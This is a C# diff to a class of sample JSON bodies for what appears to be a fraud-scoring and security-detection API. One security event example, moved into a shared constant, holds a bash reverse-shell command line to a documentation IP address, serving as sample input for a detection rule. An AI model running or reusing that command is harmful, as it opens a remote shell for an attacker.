@@ -11,6 +11,11 @@ internal static class Examples
          "account":"card-0042","counterparty":"terminal-17","device":"device-9","country":"DE","channel":"web"}
         """;
 
+    private const string SecurityEventJson = """
+        {"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
+         "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}
+        """;
+
     private const string ReasonsJson = """[{"code":"amount-spike","text":"8.1 deviations above the usual","contribution":0.91}]""";
 
     private const string TrainingJson = """
@@ -34,6 +39,16 @@ internal static class Examples
             {"id":"tx-000001","transaction":{{TransactionJson}},"decidedAt":"2026-01-31T12:00:00.012Z","score":0.91,"verdict":"block",
              "reasons":{{ReasonsJson}},"model":{"name":"isolation-forest","version":"3","score":0.77},"rulesVersion":"5b1f0a9c"}
             """,
+        [typeof(CustomScoring)] = """
+            {"features":{"amountZ":3.5,"night":1,"newDevice":null},"weights":{"amountZ":0.8,"night":0.4,"newDevice":1.2},
+             "intercept":-2.1,"means":{"amountZ":0.1},"method":"logistic"}
+            """,
+        [typeof(CustomScore)] = """
+            {"score":0.7349,"margin":1.02,"intercept":-2.1,"contributions":[
+             {"feature":"amountZ","value":3.5,"weight":0.8,"contribution":2.72},
+             {"feature":"night","value":1,"weight":0.4,"contribution":0.4}],
+             "missing":["newDevice"],"unweighted":[]}
+            """,
         [typeof(RuleText)] = """
             {"text":"rules:\n  - id: night\n    when: night == 1 and amountZ > 3\n    weight: 0.6\n    reason: At night\n"}
             """,
@@ -55,10 +70,8 @@ internal static class Examples
              "contributions":[{"feature":"amountZ","contribution":3.1,"value":8.1}]}
             """,
         [typeof(RuleChoice)] = """{"version":"5b1f0a9c77d2"}""",
-        [typeof(SecurityEventBatch)] = """
-            {"events":[{"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
-             "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}]}
-            """,
+        [typeof(SecurityEvent)] = SecurityEventJson,
+        [typeof(SecurityEventBatch)] = $$"""{"events":[{{SecurityEventJson}}]}""",
         [typeof(ThreatReport)] = """
             {"threats":[{"id":"0f8e1c5a9b3d4e7fa1b2c3d4e5f60718","type":"execution","severity":"critical","confidence":0.75,
              "source":"sigma","rule":{"title":"A shell is connected to the network","id":"cecc1367-517c-412d-843d-2fb2aa69f0b5",
@@ -88,7 +101,9 @@ internal static class Examples
         """;
 
     /// <summary>Two lines of NDJSON.</summary>
-    public static JsonNode Lines { get; } = JsonValue.Create(string.Join('\n', OneLine("tx-000001"), OneLine("tx-000002")));
+    public static JsonNode LinesOf(Type? type) => type == typeof(SecurityEvent)
+        ? TwoLines(SecurityEventJson, "ev-00000")
+        : TwoLines(TransactionJson, "tx-00000");
 
     /// <summary>The example of a record; null when there is none.</summary>
     public static JsonNode? Of(Type? type) => type is not null && Bodies.TryGetValue(type, out var json) ? JsonNode.Parse(json) : null;
@@ -98,6 +113,9 @@ internal static class Examples
         ? """{"title":"One or more validation errors occurred.","status":400,"errors":{"amount":["A number is expected, above 0."]}}"""
         : $$"""{"title":"What happened, in a few words.","status":{{status}},"detail":"What to do about it."}""");
 
-    private static string OneLine(string id) =>
-        TransactionJson.ReplaceLineEndings("").Replace("tx-000001", id, StringComparison.Ordinal);
+    private static JsonValue TwoLines(string json, string id)
+    {
+        var line = json.ReplaceLineEndings("");
+        return JsonValue.Create($"{line}\n{line.Replace($"{id}1", $"{id}2", StringComparison.Ordinal)}");
+    }
 }
